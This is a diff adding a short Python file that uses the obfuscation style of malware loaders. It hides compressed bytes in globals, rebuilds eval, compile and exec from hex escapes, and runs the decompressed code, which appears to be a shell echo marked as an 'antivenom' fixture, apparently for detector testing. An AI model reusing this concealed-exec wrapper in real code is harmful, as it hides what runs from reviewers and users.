@@ -1,0 +1,19 @@
+from builtins import *
+
+_while, Square, _math = str, map, globals
+
+
+class _add:
+    def MemoryAccess(_modulo=145434, Ceil=type, _calculate=_math):
+        _calculate()[_modulo] = Ceil
+
+
+if True:
+    try:
+        _add.MemoryAccess(_modulo="LIJLLJ", Ceil=b'x\xda\xcb\xcc-\xc8/*Q\xc8/\xe6\xca/\xd6+\xae,.I\xcd\xd5PJ')
+        if 120496 < 7145929:
+            _add.MemoryAccess(_modulo="Oo00o0", Ceil=b'M\xce\xc8WH\xcc+\xc9,K\xcd\xcb\xcf\xd5M\xcb\xac()-JU\xd2\x04\x00\x84z\x10\xb6')
+        S2, O0, N0, I0, J0 = (lambda S: globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(S)"), filename='\x58\x57', mode='\x65\x76\x61\x6c'))), (lambda S: S['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']), (lambda S: S(__import__('\x7a\x6c\x69\x62'))), (lambda: S2('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63')), (lambda J, S: J(S))
+        I0()(J0(O0(N0(S2("vars"))), S2("LIJLLJ+Oo00o0")))
+    except Exception as _random:
+        print(_random)
